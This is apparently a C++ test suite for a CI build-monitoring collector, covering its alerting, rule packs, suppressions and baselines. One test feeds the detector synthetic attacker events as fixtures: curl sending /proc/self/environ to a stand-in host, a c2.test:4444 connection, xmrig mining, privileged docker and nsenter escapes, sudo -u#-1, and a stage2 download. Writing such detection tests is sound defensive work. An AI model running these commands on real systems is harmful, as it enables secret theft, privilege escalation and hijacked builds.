// The detector inside the real collector process, fed over real HTTP:
// integrity findings and events become alerts, each exactly once, across
// kill -9; the `alerts` commands list, show and acknowledge them.
#include <doctest/doctest.h>

#include <chrono>
#include <map>
#include <set>
#include <thread>

#include "collector/store/store.h"
#include "tests/collector/alert_fixtures.h"
#include "tests/collector/collector_process.h"

using namespace bt;
using namespace bt::testing;

namespace {

// A loss whose reason carries a terminal escape: attacker-controlled text.
events::Event loss_escaped(const std::string& agent, uint64_t t, const std::string& build_id) {
  return loss(agent, t, build_id, "queue_full\x1b[31m");
}

std::size_t count_rule(const std::vector<collector::store::Alert>& alerts, const std::string& rule,
                       const std::string& title_part = "") {
  std::size_t n = 0;
  for (const auto& a : alerts)
    if (a.rule_id == rule && a.title.find(title_part) != std::string::npos) ++n;
  return n;
}

// A collector serving a data folder with one enrolled agent.
struct Detecting {
  CollectorData env;
  crypto::KeyPair key;
  std::string agent;
  CollectorProcess c;
  Detecting(const char* tag, uint8_t key_fill, std::string agent_id)
      : env(tag), key(test_key(key_fill)), agent(std::move(agent_id)), c((env.add_agent(agent, key), env.data)) {
    REQUIRE(c.running());
  }
};

}  // namespace

TEST_CASE("detection: an unmonitored build, a loss in a build and a chain gap raise one alert each, with evidence") {
  Detecting d("detect", 21, "agent-detect-1");
  auto& [env, key, agent, c] = d;
  const auto chain = seal(key, agent,
                          {{unmonitored_start(agent, kT0, "run-1")},
                           {loss_escaped(agent, kT0 + 1000, "run-1")},
                           {build_event(agent, kT0 + 2000, events::ProcessExit{}, "run-1")},
                           {build_event(agent, kT0 + 3000, events::ProcessExit{}, "run-1")}});
  for (std::size_t i : {0, 1, 3}) CHECK(post(c.url("/v1/batches"), chain[i].bytes).status == 200);  // seq 3 lost
  REQUIRE(detected_all(env.data));
  std::this_thread::sleep_for(std::chrono::milliseconds(300));  // the findings cursor moves in the same step
  const auto alerts = alerts_of(env.data);
  CHECK(count_rule(alerts, "BT-30", "without capture") == 1);
  CHECK(count_rule(alerts, "BT-29", "Events lost") == 1);
  CHECK(count_rule(alerts, "BT-29", "missing from an agent's chain") == 1);
  const auto build = collector::store::open_sqlite(env.data, {true, 5000}).value()->builds({}).value();
  REQUIRE(build.size() == 1);
  for (const auto& a : alerts) {
    if (a.title.find("without capture") != std::string::npos) {
      CHECK(a.severity == "high");
      CHECK(a.build_ref == build[0].id);
      REQUIRE(a.evidence.size() == 1);
      CHECK(a.evidence[0] == collector::store::Evidence{agent, 1, 0});
      CHECK(a.time_ns == kT0);
    }
    if (a.title.find("Events lost") != std::string::npos) {
      CHECK(a.evidence[0] == collector::store::Evidence{agent, 2, 0});
      CHECK(a.detail.find("\x1b") == std::string::npos);  // escaped when raised
    }
  }

  const auto metrics = get(c.url("/metrics")).body;
  CHECK(metrics.find("buildtrail_alerts_total{rule=\"BT-29\",severity=\"high\"} 2") != std::string::npos);
  CHECK(metrics.find("buildtrail_detect_batches_total 3") != std::string::npos);

  SUBCASE("the alerts commands list, show and acknowledge them; what agents wrote is escaped") {
    const std::string tool = build_path("collector/buildtrail-collector") + " alerts ";
    auto listed = run_command(tool + "list --data " + env.data);
    CHECK(listed.exit_code == 0);
    CHECK(listed.output.find("BT-30") != std::string::npos);
    CHECK(listed.output.find('\x1b') == std::string::npos);
    auto high = run_command(tool + "list --data " + env.data + " --severity critical");
    CHECK(high.output == "no alerts\n");
    auto jsonl = run_command(tool + "list --data " + env.data + " --format jsonl");
    CHECK(jsonl.output.find("\"rule_id\":\"BT-30\"") != std::string::npos);
    CHECK(jsonl.output.find('\x1b') == std::string::npos);
    int64_t id = 0;
    for (const auto& a : alerts)
      if (a.title.find("without capture") != std::string::npos) id = a.id;
    auto shown = run_command(tool + "show --data " + env.data + " " + std::to_string(id));
    CHECK(shown.exit_code == 0);
    CHECK(shown.output.find("evidence: " + agent + " seq 1 line 0") != std::string::npos);
    auto acked = run_command(tool + "ack --data " + env.data + " " + std::to_string(id) + " --note 'known test'");
    CHECK(acked.exit_code == 0);
    auto open = run_command(tool + "list --data " + env.data + " --open");
    CHECK(open.output.find("A build ran without capture") == std::string::npos);
    CHECK(run_command(tool + "show --data " + env.data + " 99999").exit_code == 1);
    // builds counts those citing the build: BT-30 and the loss (and, once
    // checked, "never ended": it began on 2026-11-27), not the gap.
    auto builds = run_command(build_path("collector/buildtrail-collector") + " builds --data " + env.data);
    CHECK(builds.output.find(" ALERTS ") != std::string::npos);
    c.stop();  // no check between the two reads
    uint64_t citing = 0;
    for (const auto& a : alerts_of(env.data)) citing += a.build_ref == build[0].id;
    CHECK(citing >= 2);
    CHECK(collector::store::open_sqlite(env.data, {true, 5000}).value()->builds({}).value()[0].alerts == citing);
    CHECK(run_command(tool + "list --data " + env.data + " --severity bogus").exit_code == 2);
  }
}

TEST_CASE("detection: kill -9 at any point loses no alert and raises none twice") {
  CollectorData env("detect-kill");
  const auto key = test_key(22);
  const std::string agent = "agent-detect-2";
  env.add_agent(agent, key);
  constexpr std::size_t kBatches = 60;
  std::vector<std::vector<events::Event>> per_batch;
  for (std::size_t i = 0; i < kBatches; ++i)
    per_batch.push_back({loss_escaped(agent, kT0 + i * 1000, "run-" + std::to_string(i % 3))});
  const auto chain = seal(key, agent, per_batch);
  CollectorProcess c(env.data);
  REQUIRE(c.running());
  std::size_t sent = 0;
  for (int round = 0; round < 6; ++round) {
    for (std::size_t n = 0; n < kBatches / 6; ++n, ++sent)
      REQUIRE(post(c.url("/v1/batches"), chain[sent].bytes).status == 200);
    // Killed while the detector works through what was just stored.
    std::this_thread::sleep_for(std::chrono::milliseconds(round * 40));
    CHECK(c.stop(SIGKILL) == 128 + SIGKILL);
    REQUIRE(c.start());
  }
  REQUIRE(detected_all(env.data));
  const auto alerts = alerts_of(env.data);
  CHECK(count_rule(alerts, "BT-29", "Events lost") == kBatches);
  std::set<uint64_t> seqs;
  for (const auto& a : alerts)
    if (!a.evidence.empty()) seqs.insert(a.evidence[0].seq);
  CHECK(seqs.size() == kBatches);
  // A reader's cursor (the webhook, the API's pages): ids above it, in order.
  collector::store::AlertFilter page;
  page.after_id = alerts[24].id;
  page.limit = 10;
  const auto next = collector::store::open_sqlite(env.data, {true, 5000}).value()->alerts(page).value();
  REQUIRE(next.size() == 10);
  CHECK(next.front().id == alerts[25].id);
  CHECK(next.back().id == alerts[34].id);
}

namespace {

// A build_end claiming `counts` (kind, n).
events::Event build_end(const std::string& agent, uint64_t t, const std::string& build_id,
                        std::vector<std::pair<std::string, uint64_t>> counts) {
  events::BuildEnd end;
  end.counts = std::move(counts);
  return build_event(agent, t, std::move(end), build_id);
}

events::Event exec_in(const std::string& agent, uint64_t t, const std::string& build_id) {
  events::ProcessExec x;
  x.argv = {"make"};
  return build_event(agent, t, std::move(x), build_id);
}

}  // namespace

TEST_CASE("detection: build_end counts that disagree with the events stored raise BT-30; steps and restarts do not") {
  Detecting d("detect-counts", 24, "agent-detect-counts");
  const auto& a = d.agent;
  events::BuildStart wrap;
  wrap.mode = "wrap";
  const auto start = [&](uint64_t t, const std::string& id) { return build_event(a, t, wrap, id); };
  const std::vector<std::pair<std::string, uint64_t>> one_exec = {
      {"build_end", 1}, {"build_start", 1}, {"process_exec", 1}};
  const std::vector<std::vector<events::Event>> per_batch = {
      // "cut": its agent recorded 5 execs; 3 reached the collector.
      {start(kT0, "cut"), exec_in(a, kT0 + 1, "cut"), exec_in(a, kT0 + 2, "cut"), exec_in(a, kT0 + 3, "cut")},
      {build_end(a, kT0 + 4, "cut", {{"build_end", 1}, {"build_start", 1}, {"process_exec", 5}})},
      // "steps": one CI build, two wrapped steps, each with its own build_end;
      // the collector restarts between them (the first's sum is read back).
      {start(kT0 + 10, "steps"), exec_in(a, kT0 + 11, "steps"), build_end(a, kT0 + 12, "steps", one_exec)},
      {start(kT0 + 20, "steps"), exec_in(a, kT0 + 21, "steps"), exec_in(a, kT0 + 22, "steps"),
       build_end(a, kT0 + 23, "steps", {{"build_end", 1}, {"build_start", 1}, {"process_exec", 2}})},
      // "parallel": two steps at once; the first ends while the second runs.
      {start(kT0 + 30, "parallel"), start(kT0 + 31, "parallel"), exec_in(a, kT0 + 32, "parallel"),
       build_end(a, kT0 + 33, "parallel", one_exec), exec_in(a, kT0 + 34, "parallel"),
       build_end(a, kT0 + 35, "parallel", one_exec)},
  };
  const auto chain = seal(d.key, a, per_batch);
  for (std::size_t i = 0; i < chain.size(); ++i) {
    REQUIRE(post(d.c.url("/v1/batches"), chain[i].bytes).status == 200);
    if (i == 2) {
      REQUIRE(detected_all(d.env.data));
      CHECK(d.c.stop(SIGKILL) == 128 + SIGKILL);
      REQUIRE(d.c.start());
    }
  }
  REQUIRE(detected_all(d.env.data));
  const auto alerts = alerts_of(d.env.data);
  REQUIRE(count_rule(alerts, "BT-30", "disagree") == 1);
  const auto& cut = *std::find_if(alerts.begin(), alerts.end(), [](const auto& x) { return x.rule_id == "BT-30"; });
  CHECK(cut.detail == "process_exec 5 recorded, 3 received");
  CHECK(cut.severity == "high");
  REQUIRE(cut.evidence.size() == 1);
  CHECK(cut.evidence[0].seq == 2);  // the build_end
  CHECK(cut.build_ref.has_value());
}

TEST_CASE("detection: a build that never ends and an agent that goes silent during a build, once each") {
  Detecting d("detect-open", 23, "agent-detect-3");
  auto& [env, key, agent, c] = d;
  const uint64_t now = static_cast<uint64_t>(std::chrono::system_clock::now().time_since_epoch().count());
  // Began an hour ago, still open: under the 6 h limit.
  events::BuildStart start;
  start.mode = "wrap";
  const auto chain = seal(key, agent, {{build_event(agent, now - 3600000000000ull, start, "run-open")}});
  REQUIRE(post(c.url("/v1/batches"), chain[0].bytes).status == 200);
  REQUIRE(detected_all(env.data));
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  CHECK(count_rule(alerts_of(env.data), "BT-30") == 0);  // the agent was just heard from

  // The collector's limits are flags: a 30 min build limit and 1 s
  // heartbeats make both true after a few seconds of silence.
  c.stop();
  CollectorProcess strict(env.data, {"--max-build-duration", "30m", "--heartbeat-interval", "1"});
  REQUIRE(strict.running());
  bool both = false;
  for (int i = 0; i < 300 && !both; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    const auto a = alerts_of(env.data);
    both = count_rule(a, "BT-30", "never ended") == 1 && count_rule(a, "BT-30", "went silent") == 1;
  }
  CHECK(both);
  std::this_thread::sleep_for(std::chrono::milliseconds(2500));  // more checks: nothing raised twice
  const auto a = alerts_of(env.data);
  CHECK(count_rule(a, "BT-30", "never ended") == 1);
  CHECK(count_rule(a, "BT-30", "went silent") == 1);
}

namespace {

events::Event exec_event(const std::string& agent, uint64_t t, const std::string& exe, std::vector<std::string> argv,
                         const std::string& stdin_kind = "pipe") {
  events::ProcessExec x;
  x.argv = std::move(argv);
  x.stdin_fd.kind = stdin_kind;
  x.stdout_fd.kind = stdin_kind;
  auto e = build_event(agent, t, x, "run-pack");
  e.process.exe = exe;
  e.process.key = std::to_string(t) + "-1";
  return e;
}

events::Event secret_event(const std::string& agent, uint64_t t, const std::string& rule, const std::string& access) {
  events::SecretAccess s;
  s.rule = rule;
  s.access = access;
  s.secret_class = "ci_runner";
  s.path = "/proc/77/mem";
  return build_event(agent, t, s, "run-pack");
}

events::Event write_event(const std::string& agent, uint64_t t, const std::string& rule, const std::string& path) {
  events::FileWrite w;
  w.operation = "write";
  w.rule = rule;
  w.path = path;
  return build_event(agent, t, w, "run-pack");
}

events::Event connect_event(const std::string& agent, uint64_t t, const std::string& ip, uint64_t port,
                            const std::string& name = "") {
  events::NetConnect n;
  n.protocol = "tcp";
  n.daddr = ip;
  n.dport = port;
  n.dns_name = name;
  return build_event(agent, t, n, "run-pack");
}

events::Event dns_event(const std::string& agent, uint64_t t, const std::string& name) {
  events::DnsQuery q;
  q.name = name;
  q.qtype = "A";
  return build_event(agent, t, q, "run-pack");
}

}  // namespace

TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind each, and nothing on a build") {
  Detecting d("detect-pack", 24, "agent-detect-4");
  auto& [env, key, agent, c] = d;
  uint64_t t = kT0;
  std::vector<events::Event> bad = {
      secret_event(agent, t++, "ci-runner-mem", "proc_mem"),                                          // BT-07-runner
      secret_event(agent, t++, "proc-mem", "proc_mem"),                                               // BT-07
      secret_event(agent, t++, "proc-environ", "proc_environ"),                                       // BT-08
      secret_event(agent, t++, "ptrace", "ptrace_attach"),                                            // BT-09
      secret_event(agent, t++, "cloud-metadata", "metadata_connect"),                                 // BT-06
      exec_event(agent, t++, "/usr/bin/bash", {"bash", "-i"}, "socket"),                              // BT-13
      exec_event(agent, t++, "/tmp/xmrig", {"/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333"}),  // BT-18
      exec_event(agent, t++, "/usr/bin/bash",
                 {"./config.sh", "--url", "https://github.com/x/y", "--token", "FAKE", "--name", "SHA1HULUD"}),
      write_event(agent, t++, "shell-rc", "/home/ci/.bashrc"),                                           // BT-20
      write_event(agent, t++, "ci-config", "/ws/.github/workflows/x.yml"),                               // BT-21
      dns_event(agent, t++, "abc.webhook.site"),                                                         // BT-04
      dns_event(agent, t++, std::string(60, 'a') + ".exfil.example"),                                    // BT-03
      exec_event(agent, t++, "/usr/bin/grep", {"grep", "-r", "aws_access_key_id", "/home"}),             // BT-11
      exec_event(agent, t++, "/usr/bin/curl", {"curl", "-d", "@/proc/self/environ", "https://x.test"}),  // BT-12
      connect_event(agent, t++, "198.51.100.7", 4444, "c2.test"),                                        // BT-05
      connect_event(agent, t++, "203.0.113.9", 443),                                           // BT-05-bare-ip
      exec_event(agent, t++, "/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}),                 // BT-19
      exec_event(agent, t++, "/usr/bin/find", {"find", "/", "-perm", "-4000", "-type", "f"}),  // BT-19
      exec_event(agent, t++, "/usr/local/bin/ngrok", {"ngrok", "tcp", "22"}),                  // BT-23
      exec_event(agent, t++, "/usr/bin/ssh", {"ssh", "-R", "9000:localhost:22", "x.test"}),    // BT-23
      exec_event(agent, t++, "/usr/bin/docker", {"docker", "run", "--privileged", "-v", "/:/host", "alpine"}),  // BT-25
      exec_event(agent, t++, "/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"}),         // BT-25
      exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "u+s", "/tmp/sh"}),                                    // BT-26
      exec_event(agent, t++, "/usr/bin/sudo", {"sudo", "-u#-1", "/bin/bash"}),                                  // BT-26
      exec_event(agent, t++, "/usr/bin/node", {"node", "/usr/bin/npm", "ci"}),  // the install: raises nothing
      exec_event(agent, t++, "/usr/bin/dash", {"sh", "-c", "node setup.js"}),   // its lifecycle script
      exec_event(agent, t++, "/usr/bin/curl", {"curl", "-fsSL", "https://x.test/stage2"}),  // BT-17
  };
  // npm ci -> sh -c -> curl: each the child of the one before.
  bad[25].process.parent_key = bad[24].process.key;
  bad[26].process.parent_key = bad[25].process.key;
  const std::size_t quiet = 2;  // the install and its script
  // What builds do all day: nothing here may raise.
  std::vector<events::Event> good = {
      exec_event(agent, t++, "/usr/bin/gcc", {"gcc", "-O2", "-c", "main.c"}),
      exec_event(agent, t++, "/usr/bin/bash", {"bash", "-c", "make test"}),
      exec_event(agent, t++, "/usr/bin/git", {"git", "clone", "https://github.com/example/app"}),
      write_event(agent, t++, "", "/ws/build/main.o"), dns_event(agent, t++, "pypi.org"),
      secret_event(agent, t++, "aws-credentials", "open_read"),
      exec_event(agent, t++, "/usr/bin/curl", {"curl", "-fsSLO", "https://example.com/x.tgz"}),
      exec_event(agent, t++, "/usr/bin/grep", {"grep", "-rn", "TODO", "src"}),
      dns_event(agent, t++, "files.pythonhosted.org"), connect_event(agent, t++, "151.101.0.223", 443, "pypi.org"),
      connect_event(agent, t++, "8.8.8.8", 53), connect_event(agent, t++, "10.1.2.3", 5432),
      connect_event(agent, t++, "127.0.0.1", 4444),
      exec_event(agent, t++, "/usr/bin/docker", {"docker", "run", "--rm", "-v", "/ws:/ws", "node:20", "npm", "test"}),
      exec_event(agent, t++, "/usr/bin/find", {"find", ".", "-name", "*.o", "-delete"}),
      exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "0755", "dist/app"}),
      exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "+x", "gradlew"}),
      exec_event(agent, t++, "/usr/bin/ssh", {"ssh", "-T", "git@github.com"}),
      exec_event(agent, t++, "/usr/bin/sudo", {"sudo", "apt-get", "install", "-y", "jq"}),
      exec_event(agent, t++, "/usr/sbin/modprobe", {"modprobe", "-n", "overlay"}),
      // autoconf's configure removes conf<N>files.sh: not les.sh.
      exec_event(agent, t++, "/usr/bin/rm", {"rm", "-f", "conf30996files.sh"}),
      exec_event(agent, t++, "/usr/bin/git", {"git", "fetch", "origin"}),  // below npm ci (a git dependency)
  };
  good.back().process.parent_key = bad[24].process.key;
  std::vector<events::Event> all = bad;
  all.insert(all.end(), good.begin(), good.end());
  const auto chain = seal(key, agent, {all});
  REQUIRE(post(c.url("/v1/batches"), chain[0].bytes).status == 200);
  REQUIRE(detected_all(env.data));
  std::map<std::string, std::vector<uint32_t>> lines;  // rule -> evidence lines
  for (const auto& a : alerts_of(env.data))
    if (a.rule_id.rfind("BT-", 0) == 0 && a.rule_id != "BT-29" && a.rule_id != "BT-30")
      lines[a.rule_id].push_back(a.evidence.at(0).line);
  using L = std::vector<uint32_t>;
  CHECK(lines["BT-07-runner"] == L{0});
  CHECK(lines["BT-07"] == L{1});
  CHECK(lines["BT-08"] == L{2});
  CHECK(lines["BT-09"] == L{3});
  CHECK(lines["BT-06"] == L{4});
  CHECK(lines["BT-13"] == L{5});
  CHECK(lines["BT-18"] == L{6});
  CHECK(lines["BT-22"] == L{7});
  CHECK(lines["BT-20"] == L{8});
  CHECK(lines["BT-21"] == L{9});
  CHECK(lines["BT-04"] == L{10});
  CHECK(lines["BT-03"] == L{11});
  CHECK(lines["BT-11"] == L{12});
  CHECK(lines["BT-12"] == L{13});
  CHECK(lines["BT-05"] == L{14});
  CHECK(lines["BT-05-bare-ip"] == L{15});
  CHECK(lines["BT-19"] == (L{16, 17}));
  CHECK(lines["BT-23"] == (L{18, 19}));
  CHECK(lines["BT-25"] == (L{20, 21}));
  CHECK(lines["BT-26"] == (L{22, 23}));
  CHECK(lines["BT-17"] == L{26});
  std::size_t raised = 0;
  for (const auto& [rule, l] : lines) raised += l.size();
  CHECK(raised == bad.size() - quiet);  // and none on the good events
  CHECK(c.log().find("detecting with 27 Sigma rules, 2 correlations") != std::string::npos);
}

TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cannot load is named, not fatal") {
  CollectorData env("detect-sigmahq");
  const std::string rules = testing::env_or("BUILDTRAIL_SRC", ".") + std::string("/tests/detect/sigma-rules");
  CollectorProcess c(env.data, {"--rules", rules});
  REQUIRE(c.running());
  CHECK(c.log().find("detecting with 192 Sigma rules") != std::string::npos);  // 27 + 165
  CHECK(c.log().find("omigod") != std::string::npos);                          // the 2 not loaded, named
  CHECK(c.log().find("(2 not loaded)") != std::string::npos);
}

TEST_CASE("detection: a suppression keeps a rule's alerts in its scope back until it expires; others still raise") {
  Detecting d("detect-suppress", 25, "agent-detect-5");
  auto& [env, key, agent, c] = d;
  const std::string tool = build_path("collector/buildtrail-collector") + " rules ";
  // BT-08 in this job from bash: known-good. BT-07 is not suppressed, nor
  // is BT-08 from another program, nor by a suppression that expired.
  auto added = run_command(tool + "suppress --data " + env.data +
                           " --rule BT-08 --job ci/build --exe /usr/bin/bash --expires 1h --reason 'ps e in tests'");
  REQUIRE_MESSAGE(added.exit_code == 0, added.output);
  CHECK(run_command(tool + "suppress --data " + env.data + " --rule BT-07 --expires 0s --reason x").exit_code == 2);
  CHECK(run_command(tool + "suppress --data " + env.data + " --rule BT-07 --expires 400d --reason x").exit_code == 2);
  {
    collector::store::Suppression expired;
    expired.rule_id = "BT-07";
    expired.reason = "over";
    expired.created_ns = 1;
    expired.expires_ns = 2;
    REQUIRE(collector::store::open_sqlite(env.data).value()->add_suppression(expired));
  }
  uint64_t t = kT0;
  auto other_exe = secret_event(agent, t++, "proc-environ", "proc_environ");
  other_exe.process.exe = "/usr/bin/cat";
  const auto chain = seal(key, agent,
                          {{secret_event(agent, t++, "proc-environ", "proc_environ"),  // suppressed
                            secret_event(agent, t++, "proc-mem", "proc_mem"),          // BT-07: expired one
                            other_exe}});                                              // BT-08 from cat
  REQUIRE(post(c.url("/v1/batches"), chain[0].bytes).status == 200);
  REQUIRE(detected_all(env.data));
  const auto alerts = alerts_of(env.data);
  CHECK(count_rule(alerts, "BT-08") == 1);
  CHECK(count_rule(alerts, "BT-07") == 1);
  for (const auto& a : alerts)
    if (a.rule_id == "BT-08") CHECK(a.evidence.at(0).line == 2);
  auto listed = run_command(tool + "suppressions --data " + env.data);
  CHECK(listed.output.find("ps e in tests") != std::string::npos);
  CHECK(listed.output.find("expired") != std::string::npos);
  CHECK(collector::store::open_sqlite(env.data, {true, 5000}).value()->suppressions().value()[0].hits == 1);
  CHECK(get(c.url("/metrics")).body.find("buildtrail_alerts_suppressed_total{rule=\"BT-08\"} 1") != std::string::npos);
  CHECK(run_command(tool + "unsuppress --data " + env.data + " 1").exit_code == 0);
  CHECK(run_command(tool + "unsuppress --data " + env.data + " 1").exit_code == 1);
}

// ---- per-job baselines, through the real collector -------------------------

namespace {

// One event of a build of acme/app's "ci/test" job on `branch`.
events::Event job_event(const std::string& agent, uint64_t t, events::Body body, const std::string& build_id,
                        const std::string& branch, const std::string& exe, int pid, int ppid) {
  auto e = build_event(agent, t, std::move(body), build_id);
  e.build.repository = "https://github.com/acme/app";
  e.build.job = "ci/test";
  e.build.branch = branch;
  e.process.pid = static_cast<uint64_t>(pid);
  e.process.ppid = static_cast<uint64_t>(ppid);
  e.process.key = std::to_string(pid) + "-" + build_id;
  e.process.parent_key = std::to_string(ppid) + "-" + build_id;
  e.process.exe = exe;
  return e;
}

// A realistic Python build: checkout, pip install, tests, a read of the
// package registry token and an upload; plus a name resolved and contacted
// for each of `extra`.
std::vector<events::Event> python_build(const std::string& agent, uint64_t t, const std::string& id,
                                        const std::string& branch, const std::vector<std::string>& extra = {}) {
  std::vector<events::Event> out;
  auto add = [&](events::Body b, const std::string& exe, int pid, int ppid) {
    out.push_back(job_event(agent, t + out.size() * 1000, std::move(b), id, branch, exe, pid, ppid));
  };
  auto exec = [&](const std::string& exe, char hash, std::vector<std::string> argv, int pid, int ppid) {
    events::ProcessExec x;
    x.argv = std::move(argv);
    x.exe_sha256 = std::string(64, hash);
    x.stdin_fd.kind = "pipe";
    add(x, exe, pid, ppid);
  };
  auto resolve_and_connect = [&](const std::string& name, const std::string& ip, const std::string& exe, int pid) {
    events::DnsQuery q;
    q.name = name;
    q.qtype = "A";
    q.answers = {ip};
    add(q, exe, pid, pid - 1);
    events::NetConnect c;
    c.protocol = "tcp";
    c.daddr = ip;
    c.dport = 443;
    c.dns_name = name;
    add(c, exe, pid, pid - 1);
  };
  events::BuildStart start;
  start.mode = "wrap";
  add(start, "/usr/bin/bash", 100, 1);
  exec("/usr/bin/bash", '1', {"bash", "-e", "ci.sh"}, 100, 1);
  exec("/usr/bin/git", '2', {"git", "clone", "https://github.com/acme/app"}, 101, 100);
  resolve_and_connect("github.com", "140.82.121.3", "/usr/bin/git", 101);
  exec("/usr/bin/python3", '3', {"python3", "-m", "pip", "install", "-r", "requirements.txt"}, 102, 100);
  resolve_and_connect("pypi.org", "151.101.0.223", "/usr/bin/python3", 102);
  resolve_and_connect("files.pythonhosted.org", "151.101.64.223", "/usr/bin/python3", 102);
  exec("/usr/bin/python3", '3', {"python3", "-m", "pytest", "-q"}, 103, 100);
  events::SecretAccess token;
  token.rule = "pypirc";
  token.secret_class = "package_registry";
  token.access = "open_read";
  token.path = "/home/ci/.pypirc";
  add(token, "/usr/bin/python3", 104, 100);
  events::ArtifactUpload upload;
  upload.tool = "twine";
  upload.destination = "upload.pypi.org";
  add(upload, "/usr/bin/python3", 104, 100);
  resolve_and_connect("upload.pypi.org", "151.101.128.223", "/usr/bin/python3", 104);
  int pid = 200;
  for (const auto& name : extra) {
    exec("/usr/bin/curl", '4', {"curl", "https://" + name}, pid, 100);
    resolve_and_connect(name, "203.0.113.7", "/usr/bin/curl", pid);
    pid += 2;
  }
  // What an agent's build_end says it recorded (BT-30 compares it).
  events::BuildEnd end;
  std::map<std::string, uint64_t> counts{{"build_end", 1}};
  for (const auto& e : out) ++counts[std::string(events::kind_name(e.kind()))];
  end.counts.assign(counts.begin(), counts.end());
  add(std::move(end), "/usr/bin/bash", 100, 1);
  return out;
}

bool severity_ok(const collector::store::Alert& a) { return a.severity == "low" || a.severity == "medium"; }

std::vector<collector::store::Alert> baseline_alerts(const std::vector<collector::store::Alert>& all) {
  std::vector<collector::store::Alert> out;
  for (const auto& a : all)
    if (a.key.rfind("baseline\n", 0) == 0) out.push_back(a);
  return out;
}

}  // namespace

TEST_CASE("detection: a job's baseline learns from 10 clean builds of main, then names what the job never did") {
  Detecting d("detect-baseline", 26, "agent-detect-6");
  auto& [env, key, agent, c] = d;
  std::vector<std::vector<events::Event>> builds;
  uint64_t t = kT0;
  for (int i = 0; i < 10; ++i) {
    builds.push_back(python_build(agent, t, "main-" + std::to_string(i), "main"));
    t += 60000000000ull;
    // Two builds of a feature branch contact feature.example: they teach nothing.
    if (i == 3 || i == 6)
      builds.push_back(python_build(agent, t, "feat-" + std::to_string(i), "feature/x", {"feature.example"}));
    t += 60000000000ull;
  }
  const std::size_t learned = builds.size();
  builds.push_back(python_build(agent, t, "pr-11", "pr-11", {"evil.example"}));
  builds.push_back(python_build(agent, t + 1000000000, "pr-12", "pr-12"));  // the usual: nothing new
  builds.push_back(python_build(agent, t + 2000000000, "pr-13", "pr-13", {"feature.example"}));
  const auto chain = seal(key, agent, builds);
  for (const auto& b : chain) REQUIRE(post(c.url("/v1/batches"), b.bytes).status == 200);
  REQUIRE(detected_all(env.data));
  const auto alerts = baseline_alerts(alerts_of(env.data));
  std::map<std::string, std::set<std::string>> by_seq;  // "seq" -> rules
  for (const auto& a : alerts) by_seq[std::to_string(a.evidence.at(0).seq)].insert(a.rule_id);
  // Nothing while learning, nothing on the benign builds once learned.
  for (std::size_t s = 1; s <= learned; ++s) CHECK(by_seq.count(std::to_string(s)) == 0);
  CHECK(by_seq.count(std::to_string(learned + 2)) == 0);
  // evil.example: a new DNS name and a new destination, its curl a new executable.
  CHECK(by_seq[std::to_string(learned + 1)] == std::set<std::string>{"BT-01", "BT-02", "BT-16"});
  // What feature branches did was not learned.
  CHECK(by_seq[std::to_string(learned + 3)].count("BT-01") == 1);
  for (const auto& a : alerts) {
    CHECK(a.detail.find("pypi.org") == std::string::npos);
    CHECK(a.detail.find("github.com") == std::string::npos);
    CHECK(severity_ok(a));
  }

  SUBCASE("baselines show lists the job and its items; reset forgets them") {
    const std::string tool = build_path("collector/buildtrail-collector") + " baselines ";
    auto all = run_command(tool + "show --data " + env.data);
    CHECK(all.exit_code == 0);
    CHECK(all.output.find("ci/test") != std::string::npos);
    const std::string job = " --ci github --repository https://github.com/acme/app --job ci/test";
    auto one = run_command(tool + "show --data " + env.data + job);
    CHECK(one.exit_code == 0);
    CHECK(one.output.find("10 clean builds") != std::string::npos);
    CHECK(one.output.find("pypi.org") != std::string::npos);
    CHECK(one.output.find("pythonhosted.org") != std::string::npos);
    CHECK(one.output.find("feature.example") == std::string::npos);
    auto reset = run_command(tool + "reset --data " + env.data + job);
    CHECK(reset.exit_code == 0);
    CHECK(run_command(tool + "show --data " + env.data).output.find("no baselines") != std::string::npos);
    CHECK(run_command(tool + "reset --data " + env.data + job).exit_code == 1);
  }
}

TEST_CASE("detection: kill -9 while baselines learn neither loses a build nor counts one twice") {
  CollectorData env("detect-baseline-kill");
  const auto key = test_key(27);
  const std::string agent = "agent-detect-7";
  env.add_agent(agent, key);
  constexpr int kBuilds = 20;
  std::vector<std::vector<events::Event>> builds;
  for (int i = 0; i < kBuilds; ++i)
    builds.push_back(
        python_build(agent, kT0 + static_cast<uint64_t>(i) * 60000000000ull, "main-" + std::to_string(i), "main"));
  const auto chain = seal(key, agent, builds);
  CollectorProcess c(env.data);
  REQUIRE(c.running());
  std::size_t sent = 0;
  for (int round = 0; round < 5; ++round) {
    for (int n = 0; n < kBuilds / 5; ++n, ++sent) REQUIRE(post(c.url("/v1/batches"), chain[sent].bytes).status == 200);
    std::this_thread::sleep_for(std::chrono::milliseconds(round * 40));
    CHECK(c.stop(SIGKILL) == 128 + SIGKILL);
    REQUIRE(c.start());
  }
  REQUIRE(detected_all(env.data));
  const auto b = collector::store::open_sqlite(env.data, {true, 5000}).value()->baselines(std::nullopt).value();
  REQUIRE(b.size() == 1);
  CHECK(b[0].builds == kBuilds);
  for (const auto& i : b[0].items) CHECK(i.builds == kBuilds);
}
